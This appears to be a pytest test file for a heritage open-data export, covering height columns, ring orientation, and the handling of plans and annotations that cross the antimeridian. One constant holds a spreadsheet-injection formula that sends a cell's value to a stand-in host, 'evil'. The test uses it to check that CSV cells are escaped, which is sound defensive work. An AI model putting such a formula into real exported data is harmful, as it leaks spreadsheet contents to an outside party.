"""Open data as others read it: annotations' heights, rings and cells, and plans that lie across the antimeridian."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Sequence
from datetime import date
from pathlib import Path

import geopandas as gpd
import numpy as np
import pyproj
import pytest
import shapely

from heritage.model.documents import View
from heritage.model.release import AnnotationEntry, Box, EpochEntry, MonumentEntry, Placement
from heritage.pipeline.ground import read_ground
from heritage.pipeline.opendata.catalogue import Edition
from heritage.pipeline.opendata.write import write_open_data
from heritage.store import Store
from heritage.store.feature_index import FeatureIndex
from heritage.text.site import load_site

SQUARE = ((0.0, 0.0, 5.0), (4.0, 0.0, 5.0), (4.0, 4.0, 5.0), (0.0, 4.0, 5.0))
HUE = "EPSG:32648"
FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")'


def area(
    id: str, vertices: Sequence[tuple[float, float, float]], title: str = "Spalled stone"
) -> AnnotationEntry:
    return AnnotationEntry(
        id=id, title={"en": title}, html={}, position_m=(2.0, 2.0, 5.0), shape="area", vertices_m=tuple(vertices)
    )  # fmt: skip


def gate(annotations: Sequence[AnnotationEntry]) -> MonumentEntry:
    """A monument that stands at the site's origin, with ``annotations``."""
    box = Box(min=(0.0, 0.0, 0.0), max=(4.0, 4.0, 6.0))
    view = View(eye_m=(0.0, -20.0, 3.0), target_m=(0.0, 0.0, 3.0))
    identity = tuple(float(v) for v in np.eye(4).ravel())
    epoch = EpochEntry(
        id="2024", title={}, captured=None, method="laser", tileset="t.json", bounds=box, points=1, triangles=1
    )  # fmt: skip
    return MonumentEntry(
        id="gate", title={"en": "Gate"}, html={}, reference_epoch="2024", bounds=box, view=view, epochs=(epoch,),
        placement=Placement(method="footprint", settled=True, site_from_monument=identity, scale=1.0, heading_deg=0.0),
        annotations=tuple(annotations),
    )  # fmt: skip


def written(
    root: Path,
    annotations: Sequence[AnnotationEntry] = (),
    *,
    heights: str = "ellipsoidal",
    crs: str = HUE,
    plans: Sequence[shapely.Geometry] = (shapely.box(775_000, 1_821_000, 775_012, 1_821_008),),
) -> Path:
    """The folder ``data`` of a release with one monument and ``plans``, which are in ``crs``."""
    table = gpd.GeoDataFrame({"name": [str(k) for k in range(len(plans))]}, geometry=list(plans), crs=crs)
    table.to_file(root / "plans.gpkg", layer="plans", driver="GPKG")
    (root / "site.yaml").write_text(
        f"title: {{en: City}}\nlanguages: [en]\ncrs: {crs}\nheights: {heights}\n"
        "footprints: {source: plans.gpkg, name: name, id: name}\nrights: {licence: CC0-1.0, holder: A}\n"
    )
    loaded, store = load_site(root), Store(root)
    with store.writer("test"), store.release("0001-a") as folder:
        edition = Edition("0001-a", date(2026, 11, 28))
        write_open_data(folder, loaded, read_ground(loaded), [gate(annotations)], edition)
    return store.release_path("0001-a") / "data"


@pytest.mark.parametrize(("heights", "axes"), [("ellipsoidal", 3), ("orthometric", 2), ("unknown", 2)])
def test_a_third_coordinate_is_above_the_ellipsoid_and_a_column_says_what_a_height_is_above(
    tmp_path: Path, heights: str, axes: int
) -> None:
    data = written(tmp_path, [area("spall", SQUARE)], heights=heights)
    (feature,) = json.loads((data / "annotations.geojson").read_bytes())["features"]
    (row,) = csv.DictReader(io.StringIO((data / "annotations.csv").read_text("utf-8-sig")))

    assert {len(place) for place in feature["geometry"]["coordinates"][0]} == {axes}
    assert feature["properties"]["heights"] == row["heights"] == heights
    assert feature["properties"]["height_m"] == float(row["height_m"]) == pytest.approx(5, abs=0.01)


def test_areas_are_counter_clockwise_and_their_local_shapes_in_the_same_order(tmp_path: Path) -> None:
    data = written(tmp_path, [area("with", SQUARE), area("against", SQUARE[::-1])])
    features = json.loads((data / "annotations.geojson").read_bytes())["features"]

    for feature in features:
        ring = np.array(feature["geometry"]["coordinates"][0])
        local = shapely.get_coordinates(shapely.from_wkt(feature["properties"]["local_m"]))
        assert shapely.LinearRing(ring).is_ccw
        # Degrees east and north of the corner at the origin, in which the gate's metres run.
        east_north = (ring - ring[(local == 0).all(axis=1)][0])[:, :2]
        assert ((east_north > 1e-6) == (local > 0)).all()


@pytest.mark.parametrize("shape", ["area", "line", "point"])
def test_no_cell_of_the_table_is_computed(tmp_path: Path, shape: str) -> None:
    note = area("link", SQUARE, FORMULA).model_copy(update={"shape": shape})
    content = (written(tmp_path, [note]) / "annotations.csv").read_bytes()

    assert content.startswith(b"\xef\xbb\xbf")
    (row,) = csv.DictReader(io.StringIO(content.decode("utf-8-sig")))
    assert row["title_en"] == f"'{FORMULA}"
    assert row["x_m"] == "2.0"


FIJI = "EPSG:32701"


def on_taveuni(corners: Sequence[tuple[float, float]]) -> shapely.Polygon:
    """A plan given in degrees, as a surveyor's own grid has it."""
    way = pyproj.Transformer.from_crs(4326, FIJI, always_xy=True)
    return shapely.Polygon([way.transform(*corner) for corner in corners])


ACROSS = on_taveuni([(179.9998, -16.85), (-179.9998, -16.85), (-179.9998, -16.8498), (179.9998, -16.8498)])
WEST_OF_IT = on_taveuni([(179.9990, -16.85), (179.9992, -16.85), (179.9992, -16.8498), (179.9990, -16.8498)])
CROSSED = on_taveuni([(179.9998, -16.85), (-179.9998, -16.8498), (-179.9998, -16.85), (179.9998, -16.8498)])


def test_a_plan_across_the_antimeridian_is_published_in_two_parts(tmp_path: Path) -> None:
    data = written(tmp_path, crs=FIJI, plans=[ACROSS, WEST_OF_IT, CROSSED])
    features = json.loads((data / "footprints.geojson").read_bytes())["features"]
    across, beside, crossed = (shapely.geometry.shape(f["geometry"]) for f in features)
    way = pyproj.Transformer.from_crs(4326, FIJI, always_xy=True)

    for shape, given in ((across, ACROSS), (crossed, shapely.make_valid(CROSSED))):
        assert shape.geom_type == "MultiPolygon"
        assert all(
            -180 <= w < e <= 180 and e - w < 1 for w, _, e, _ in shapely.bounds(shapely.get_parts(shape))
        )
        assert all(part.exterior.is_ccw for part in shape.geoms)
        there = shapely.transform(shape, lambda xy: np.column_stack(way.transform(*xy.T)))
        assert there.area == pytest.approx(given.area, rel=1e-3)
    assert beside.geom_type == "Polygon"


def test_a_box_across_the_antimeridian_is_not_one_around_the_earth(tmp_path: Path) -> None:
    data = written(tmp_path, crs=FIJI, plans=[ACROSS, WEST_OF_IT])
    index = FeatureIndex(data / "features.sqlite")

    def found(*boxes: tuple[float, float, float, float]) -> list[tuple[int, bool]]:
        return [(one.n - 1, one.certain) for one in index.within("footprints", boxes, None)]

    assert found((107, -17, 108, -16)) == []
    assert found((-179.9999, -17, -179, -16)) == [(0, False)], "its shape decides"
    assert found((179, -17, 179.9995, -16)) == [(1, True)]
    assert found((179, -17, 180, -16), (-180, -17, -179, -16)) == [(0, False), (1, True)]
    assert index.extent("footprints")[0] == pytest.approx((179.9990, -16.85, -179.9998, -16.8498), abs=1e-7)
    catalogue = json.loads((data / "catalogue.jsonld").read_bytes())
    assert (
        catalogue["schema:spatialCoverage"]["schema:geo"]["schema:box"] == "-16.85 179.999 -16.8498 -179.9998"
    )
    bounds = shapely.from_wkt(catalogue["dct:spatial"]["dcat:bbox"]["@value"])
    assert bounds.area == pytest.approx(0.0012 * 0.0002, rel=1e-3)


def test_an_annotation_across_the_antimeridian_keeps_its_heights(tmp_path: Path) -> None:
    """The site's origin is the middle of the only plan: a thousandth of a degree is some hundred metres there."""
    wide = tuple((x * 100.0, y * 100.0, 5.0) for x, y in ((-1, -1), (1, -1), (1, 1), (-1, 1)))
    line = area("line", wide).model_copy(update={"shape": "line"})
    data = written(tmp_path, [area("area", wide), line], crs=FIJI, plans=[ACROSS])
    features = json.loads((data / "annotations.geojson").read_bytes())["features"]
    shapes = [shapely.geometry.shape(feature["geometry"]) for feature in features]

    assert [shape.geom_type for shape in shapes] == ["MultiPolygon", "MultiLineString"]
    for part in shapely.get_parts(shapes):
        assert part.bounds[2] - part.bounds[0] < 0.01
        assert shapely.get_coordinates(part, include_z=True)[:, 2] == pytest.approx(5, abs=0.01)
